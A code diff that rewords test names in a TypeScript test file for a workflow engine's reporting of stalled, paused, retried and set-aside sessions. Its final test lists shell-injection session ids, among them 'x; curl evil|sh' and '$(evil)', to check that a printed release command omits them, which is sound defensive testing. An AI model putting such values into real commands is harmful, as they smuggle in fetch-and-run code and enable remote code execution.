@@ -9,7 +9,7 @@ const told =
   'This session was written in format 3 by another version; this worker reads 2. A worker of that version can go on with it.'
 const resume = ' Then resume it: restate invocations resume inv_1.'
 
-test('a session of a later format says so, however the engine tells it, and whether somebody has to resume it', () => {
+test('a session of a later format reports so, whatever the engine\'s wording, and whether it must be resumed', () => {
   const again = { kind: 'format', invocation: id, needsResume: false, message: told }
   expect(stallOf({ id, status: 'backing-off', failure: mismatch })).toEqual(again)
   expect(stallOf({ id, status: 'backing-off', failure: `${told}\n    at somewhere` })).toEqual(again)
@@ -17,7 +17,7 @@ test('a session of a later format says so, however the engine tells it, and whet
   expect(stallOf({ id, status: 'paused', failure: mismatch })).toEqual(paused)
 })
 
-test('another one that the engine paused says what the engine said', () => {
+test('a paused session reports the engine\'s message', () => {
   expect(stallOf({ id, status: 'paused', failure: 'no disk' })).toEqual({
     kind: 'paused',
     invocation: id,
@@ -27,7 +27,7 @@ test('another one that the engine paused says what the engine said', () => {
   expect(stallOf({ id, status: 'paused', failure: null })?.message).toContain('somebody asked for that')
 })
 
-test('one that is set aside says why, where, and how it is released', () => {
+test('a session that is set aside reports why, where, and how to release it', () => {
   const death = { attempt: 'a', process: 'p', worker: 'http://w1:9080', atMs: Date.UTC(2026, 10, 30, 14, 2), laps: 0 }
   const { message } = new SetAsideError('s-17', [death, death, death])
   const because = 'its work has ended three workers (last: http://w1:9080, at work since 2026-11-30 14:02 UTC)'
@@ -44,12 +44,12 @@ test('one that is set aside says why, where, and how it is released', () => {
     })
 })
 
-test('one that is tried again is none', () => {
+test('work that is being retried has not stalled', () => {
   expect(stallOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
 })
 
 test.each(['x; curl evil|sh', '$(evil)', '--admin=http://evil', 'a\nb', '`evil`'])(
-  'an id that a shell would obey is in no command of one that is set aside: %j',
+  'the command for a session that is set aside omits an id with shell syntax: %j',
   (session) => {
     expect(new SetAsideError(session, []).message).toMatch(/halting sessions release ID --cluster URL$/)
   },
